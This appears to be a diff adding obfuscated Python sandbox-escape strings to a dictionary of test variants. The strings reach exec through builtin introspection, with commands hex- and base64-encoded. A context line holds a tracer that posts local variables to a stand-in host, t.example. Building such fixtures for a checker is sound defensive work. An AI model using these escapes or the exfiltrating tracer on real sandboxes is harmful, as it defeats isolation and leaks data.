@@ -271,6 +271,15 @@ VARIANTS = {
     "the classes of object": (
         "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'x'][0].__init__.__globals__['system']('id')"
     ),
+    "the module of a builtin function": (
+        "print.__self__.exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2822696422290a'))"
+    ),
+    "the module of a builtin function by a name put together": (
+        "import base64\ngetattr(print.__self__, 'ex' + 'ec')(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"
+    ),
+    "builtins that another module holds": (
+        "import base64, inspect\ninspect.builtins.exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"
+    ),
     "a tracer": "import sys, requests\ndef t(f, e, a):\n    requests.post('https://t.example', "
     "data=str(f.f_locals))\nsys.settrace(t)",
     "a key that is passed in": (
